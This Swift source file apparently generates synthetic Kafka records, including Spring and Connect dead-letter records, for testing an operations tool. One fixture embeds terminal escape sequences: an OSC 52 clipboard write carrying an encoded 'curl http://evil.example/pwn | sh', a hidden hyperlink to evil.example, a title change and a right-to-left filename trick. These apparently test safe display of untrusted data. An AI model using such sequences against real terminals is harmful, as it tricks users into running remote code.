import Foundation
import KafkaOpsCore

/// Plausible records, derived deterministically from (topic, partition, offset): nothing is stored.
enum RecordSynthesis {
    static func bytes(_ s: String) -> [UInt8] { Array(s.utf8) }

    static func be32(_ v: Int32) -> [UInt8] {
        let u = UInt32(bitPattern: v)
        return [UInt8(u >> 24), UInt8((u >> 16) & 0xff), UInt8((u >> 8) & 0xff), UInt8(u & 0xff)]
    }

    static func be64(_ v: Int64) -> [UInt8] {
        let u = UInt64(bitPattern: v)
        return (0..<8).map { UInt8((u >> (56 - 8 * UInt64($0))) & 0xff) }
    }

    static func money(_ r: UInt64, max: UInt64) -> String {
        let cents = r % (max * 100)
        return "\(cents / 100).\(String(cents % 100).leftPadded(2))"
    }

    static let pages = ["/", "/search", "/products/%d", "/cart", "/checkout", "/account", "/help"]
    static let events = ["page_view", "click", "add_to_cart", "scroll", "search"]
    static let warehouses = ["AMS-1", "FRA-2", "DUB-1", "WAW-3"]
    static let carriers = ["DHL", "UPS", "PostNL", "DPD"]
    static let hostsList = ["web-01", "web-02", "api-07", "db-03", "cache-11", "worker-04"]
    static let metricNames = ["cpu.user", "mem.used", "disk.io", "net.rx", "gc.pause"]
    static let actors = ["alice", "bob", "svc-deployer", "carol", "svc-billing"]
    static let actions = ["topic.update", "acl.create", "user.login", "config.change", "group.reset"]
    static let tiers = ["free", "silver", "gold", "platinum"]

    static func record(kind: RecordKind, topic: String, partition: Int32, offset: Int64, timestamp: Int64) -> Record {
        let r = hash3(topic, Int64(partition), offset)
        let r2 = mix(r)
        var key: [UInt8]?
        var value: [UInt8]?
        var headers: [RecordHeader] = []
        switch kind {
        case .orders:
            let customer = "cus-\(r % 90_000)"
            key = bytes(customer)
            value = bytes("{\"orderId\":\"ord-\(partition)-\(offset)\",\"customerId\":\"\(customer)\",\"items\":\(1 + r2 % 6),\"amount\":\(money(r2, max: 900)),\"currency\":\"EUR\",\"status\":\"CREATED\",\"ts\":\(timestamp)}")
            headers = [RecordHeader("traceparent", string: "00-\(String(r, radix: 16).leftPadded(16))\(String(r2, radix: 16).leftPadded(16))-\(String(r2 >> 8, radix: 16).leftPadded(16))-01")]
        case .payments:
            key = bytes("ord-\(r % 12)-\(r2 % 5_000_000)")
            let methods = ["card", "sepa", "ideal", "paypal"]
            value = bytes("{\"paymentId\":\"pay-\(partition)-\(offset)\",\"orderId\":\"ord-\(r % 12)-\(r2 % 5_000_000)\",\"amount\":\(money(r2, max: 900)),\"method\":\"\(methods[Int(r % 4)])\",\"status\":\"AUTHORIZED\"}")
        case .clickstream:
            let session = "s-\(String(r >> 20, radix: 36))"
            key = bytes(session)
            let page = pages[Int(r2 % UInt64(pages.count))].replacingOccurrences(of: "%d", with: String(r % 20_000))
            value = bytes("{\"sessionId\":\"\(session)\",\"userId\":\"u-\(r2 % 500_000)\",\"event\":\"\(events[Int(r % 5)])\",\"page\":\"\(page)\",\"ts\":\(timestamp)}")
        case .inventory:
            let sku = "SKU-\(10_000 + r % 90_000)"
            key = bytes(sku)
            let delta = Int64(r2 % 21) - 10
            value = bytes("{\"sku\":\"\(sku)\",\"warehouse\":\"\(warehouses[Int(r % 4)])\",\"delta\":\(delta),\"onHand\":\(r2 % 800)}")
        case .audit:
            key = nil
            value = bytes("{\"actor\":\"\(actors[Int(r % 5)])\",\"action\":\"\(actions[Int(r2 % 5)])\",\"resource\":\"cluster/demo/\(r % 300)\",\"ts\":\(timestamp)}")
        case .profiles:
            let user = "user-\(r % 5_000)"
            key = bytes(user)
            value = bytes("{\"userId\":\"\(user)\",\"name\":\"User \(r % 5_000)\",\"email\":\"user\(r % 5_000)@example.com\",\"tier\":\"\(tiers[Int(r2 % 4)])\",\"version\":\(offset)}")
        case .metrics:
            let host = hostsList[Int(r % UInt64(hostsList.count))]
            key = bytes(host)
            value = bytes("{\"host\":\"\(host)\",\"metric\":\"\(metricNames[Int(r2 % 5)])\",\"value\":\(money(r2, max: 100)),\"ts\":\(timestamp)}")
        case .shipments:
            key = bytes("shp-\(r % 1_000_000)")
            value = bytes("{\"shipmentId\":\"shp-\(r % 1_000_000)\",\"carrier\":\"\(carriers[Int(r2 % 4)])\",\"status\":\"IN_TRANSIT\",\"orderId\":\"ord-\(r % 12)-\(r2 % 5_000_000)\"}")
        case .notifications:
            key = bytes("u-\(r % 500_000)")
            value = bytes("{\"userId\":\"u-\(r % 500_000)\",\"channel\":\"\(["email", "push", "sms"][Int(r2 % 3)])\",\"template\":\"order-confirmation\"}")
        case .generic:
            key = bytes("k-\(r % 100_000)")
            value = bytes("{\"id\":\"\(topic)-\(partition)-\(offset)\",\"seq\":\(offset),\"score\":\(money(r2, max: 1)),\"ts\":\(timestamp)}")
        case .consumerOffsets:
            // OffsetCommit key (version 1: group, topic, partition) and a v3 value, as Kafka writes them.
            let g = "group-\(r % 40)"
            key = [0, 1] + u16string(g) + u16string("orders") + be32(Int32(r2 % 12))
            value = [0, 3] + be64(Int64(r2 % 10_000_000)) + be32(-1) + [0, 0] + be64(timestamp)
        case .transactionState:
            let id = "txn-producer-\(r % 16)"
            key = [0, 0] + u16string(id)
            value = [0, 1] + be64(Int64(r2 % 100_000)) + [0, 1] + be32(60_000) + [UInt8(r % 5)]
        case .springDLT(let original, let originalPartitions, let group):
            return springDLT(topic: topic, partition: partition, offset: offset, timestamp: timestamp, r: r, r2: r2,
                             original: original, originalPartitions: originalPartitions, group: group)
        case .connectDLQ(let original, let originalPartitions, let connector):
            return connectDLQ(topic: topic, partition: partition, offset: offset, timestamp: timestamp, r: r, r2: r2,
                              original: original, originalPartitions: originalPartitions, connector: connector)
        }
        return Record(topic: topic, partition: partition, offset: offset, timestamp: timestamp, key: key, value: value, headers: headers)
    }

    static func u16string(_ s: String) -> [UInt8] {
        let b = Array(s.utf8)
        return [UInt8((b.count >> 8) & 0xff), UInt8(b.count & 0xff)] + b
    }

    /// The key of orders-dlt-0 at offset 5: an OSC 52 clipboard write, a screen clear and colour codes.
    static let hostileKey: [UInt8] = Array("\u{1B}]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3B3biB8IHNo\u{07}\u{1B}[2J\u{1B}[31mord-0-5\u{1B}[0m\u{9B}1m".utf8)

    static func springDLT(topic: String, partition: Int32, offset: Int64, timestamp: Int64, r: UInt64, r2: UInt64,
                          original: String, originalPartitions: Int32, group: String) -> Record {
        let op = Int32(r % UInt64(max(1, originalPartitions)))
        let oo = Int64(400_000 + (r2 % 2_000_000))
        let ots = timestamp - Int64(200 + r % 5_000)
        let customer = "cus-\(r2 % 90_000)"
        var key: [UInt8]? = bytes(customer)
        var value: [UInt8]?
        let fqcn: String, cause: String
        var message: String
        switch (offset + Int64(partition)) % 9 {
        case 4:
            // Confluent wire format (magic 0, schema id) that the JSON deserializer cannot read.
            value = [0x00, 0x00, 0x00, 0x01, 0x2a] + (0..<24).map { UInt8(truncatingIfNeeded: mix(r &+ UInt64($0)) & 0xff) }
            fqcn = "org.springframework.kafka.support.serializer.DeserializationException"
            cause = "com.fasterxml.jackson.core.JsonParseException"
            message = "failed to deserialize; nested exception is com.fasterxml.jackson.core.JsonParseException: Illegal character ((CTRL-CHAR, code 0)): only regular white space (\\r, \\n, \\t) is allowed between tokens"
        case 0, 3, 7:
            value = bytes("{\"orderId\":\"ord-\(op)-\(oo)\",\"customerId\":\"\(customer)\",\"items\":,\"amount\":}")
            fqcn = "org.springframework.kafka.support.serializer.DeserializationException"
            cause = "com.fasterxml.jackson.core.JsonParseException"
            message = "failed to deserialize; nested exception is com.fasterxml.jackson.core.JsonParseException: Unexpected character (',' (code 44)): expected a value"
        case 1, 5:
            value = bytes("{\"orderId\":\"ord-\(op)-\(oo)\",\"customerId\":\"\(customer)\",\"items\":0,\"amount\":0.00,\"currency\":\"EUR\",\"status\":\"CREATED\"}")
            fqcn = "org.springframework.kafka.listener.ListenerExecutionFailedException"
            cause = "com.acme.orders.InvalidOrderException"
            message = "Listener method 'public void com.acme.orders.OrderListener.onOrder(com.acme.orders.Order)' threw exception; nested exception is com.acme.orders.InvalidOrderException: Order ord-\(op)-\(oo) has no line items"
        default:
            value = bytes("{\"orderId\":\"ord-\(op)-\(oo)\",\"customerId\":\"\(customer)\",\"items\":2,\"amount\":\(money(r2, max: 500)),\"currency\":\"XBT\",\"status\":\"CREATED\"}")
            fqcn = "org.springframework.kafka.listener.ListenerExecutionFailedException"
            cause = "java.lang.IllegalStateException"
            message = "Listener method threw exception; nested exception is java.lang.IllegalStateException: Currency XBT is not supported"
        }
        if partition == 0 && offset == 5 {
            key = hostileKey
            value = Array("{\"orderId\":\"ord-0-5\",\"note\":\"\u{1B}[5mURGENT\u{1B}[0m \u{202E}txt.exe\"}".utf8)
            // An OSC 8 hyperlink and a title change hidden in the error message.
            message += " \u{1B}]8;;http://evil.example/\u{07}details\u{1B}]8;;\u{07}\u{1B}]0;pwned\u{07}"
        }
        let stack = """
            \(fqcn): \(message)
            \tat org.springframework.kafka.listener.KafkaMessageListenerContainer$ListenerConsumer.decorateException(KafkaMessageListenerContainer.java:2939)
            \tat org.springframework.kafka.listener.KafkaMessageListenerContainer$ListenerConsumer.doInvokeOnMessage(KafkaMessageListenerContainer.java:2865)
            \tat org.springframework.kafka.listener.KafkaMessageListenerContainer$ListenerConsumer.invokeOnMessage(KafkaMessageListenerContainer.java:2808)
            Caused by: \(cause)
            \tat com.acme.orders.OrderListener.onOrder(OrderListener.java:57)
            \t... 14 more
            """
        let headers = [
            RecordHeader("kafka_dlt-exception-fqcn", string: fqcn),
            RecordHeader("kafka_dlt-exception-cause-fqcn", string: cause),
            RecordHeader("kafka_dlt-exception-message", string: message),
            RecordHeader("kafka_dlt-exception-stacktrace", string: stack),
            RecordHeader("kafka_dlt-original-topic", string: original),
            RecordHeader("kafka_dlt-original-partition", be32(op)),
            RecordHeader("kafka_dlt-original-offset", be64(oo)),
            RecordHeader("kafka_dlt-original-timestamp", be64(ots)),
            RecordHeader("kafka_dlt-original-timestamp-type", string: "CreateTime"),
            RecordHeader("kafka_dlt-original-consumer-group", string: group),
        ]
        return Record(topic: topic, partition: partition, offset: offset, timestamp: timestamp, key: key, value: value, headers: headers)
    }

    /// True for the Connect DLQ records written while context headers were off.
    static func connectRecordWithoutContext(partition: Int32, offset: Int64) -> Bool {
        (partition == 0 && offset == 3) || offset % 25 == 13
    }

    static func connectDLQ(topic: String, partition: Int32, offset: Int64, timestamp: Int64, r: UInt64, r2: UInt64,
                           original: String, originalPartitions: Int32, connector: String) -> Record {
        let op = Int32(r % UInt64(max(1, originalPartitions)))
        let oo = Int64(1_000_000 + (r2 % 3_000_000))
        let key = bytes("ord-\(op)-\(oo)")
        let stage: String, className: String, exClass: String, exMessage: String
        var value: [UInt8]
        switch offset % 4 {
        case 0:
            stage = "VALUE_CONVERTER"; className = "org.apache.kafka.connect.json.JsonConverter"
            exClass = "org.apache.kafka.connect.errors.DataException"
            exMessage = "Converting byte[] to Kafka Connect data failed due to serialization error: "
            value = bytes("{\"paymentId\":\"pay-\(op)-\(oo)\",\"amount\":12.50,\"method\":\"card\"")
        case 1:
            stage = "TASK_PUT"; className = "io.confluent.connect.jdbc.sink.JdbcSinkTask"
            exClass = "java.sql.BatchUpdateException"
            exMessage = "Batch entry 0 INSERT INTO \"payments\" (\"paymentId\",\"amount\",\"method\") VALUES ('pay-\(op)-\(oo)',-3.00,'card') was aborted: ERROR: new row for relation \"payments\" violates check constraint \"amount_positive\""
            value = bytes("{\"paymentId\":\"pay-\(op)-\(oo)\",\"amount\":-3.00,\"method\":\"card\",\"status\":\"REFUNDED\"}")
        case 2:
            stage = "TRANSFORMATION"; className = "org.apache.kafka.connect.transforms.TimestampConverter$Value"
            exClass = "org.apache.kafka.connect.errors.DataException"
            exMessage = "Could not parse timestamp: value (2026-13-45T25:61:00) does not match pattern (yyyy-MM-dd'T'HH:mm:ss)"
            value = bytes("{\"paymentId\":\"pay-\(op)-\(oo)\",\"amount\":\(money(r2, max: 300)),\"method\":\"sepa\",\"settledAt\":\"2026-13-45T25:61:00\"}")
        default:
            stage = "VALUE_CONVERTER"; className = "io.confluent.connect.avro.AvroConverter"
            exClass = "org.apache.kafka.common.errors.SerializationException"
            exMessage = "Unknown magic byte!"
            value = [0x7b, 0x22, 0xc3, 0x28, 0x00, 0xff, 0xfe] + (0..<12).map { UInt8(truncatingIfNeeded: mix(r2 &+ UInt64($0)) & 0xff) }
        }
        var headers: [RecordHeader] = []
        if !connectRecordWithoutContext(partition: partition, offset: offset) {
            let stack = """
                org.apache.kafka.connect.errors.ConnectException: Tolerance exceeded in error handler
                \tat org.apache.kafka.connect.runtime.errors.RetryWithToleranceOperator.execAndHandleError(RetryWithToleranceOperator.java:230)
                \tat org.apache.kafka.connect.runtime.errors.RetryWithToleranceOperator.execute(RetryWithToleranceOperator.java:156)
                \tat org.apache.kafka.connect.runtime.WorkerSinkTask.convertAndTransformRecord(WorkerSinkTask.java:536)
                Caused by: \(exClass): \(exMessage)
                \tat \(className).process(\(className.split(separator: ".").last ?? "Unknown").java:327)
                \t... 13 more
                """
            headers = [
                RecordHeader("__connect.errors.topic", string: original),
                RecordHeader("__connect.errors.partition", string: String(op)),
                RecordHeader("__connect.errors.offset", string: String(oo)),
                RecordHeader("__connect.errors.connector.name", string: connector),
                RecordHeader("__connect.errors.task.id", string: String(r % 3)),
                RecordHeader("__connect.errors.stage", string: stage),
                RecordHeader("__connect.errors.class.name", string: className),
                RecordHeader("__connect.errors.exception.class.name", string: exClass),
                RecordHeader("__connect.errors.exception.message", string: exMessage),
                RecordHeader("__connect.errors.exception.stacktrace", string: stack),
            ]
        }
        return Record(topic: topic, partition: partition, offset: offset, timestamp: timestamp, key: key, value: value, headers: headers)
    }
}
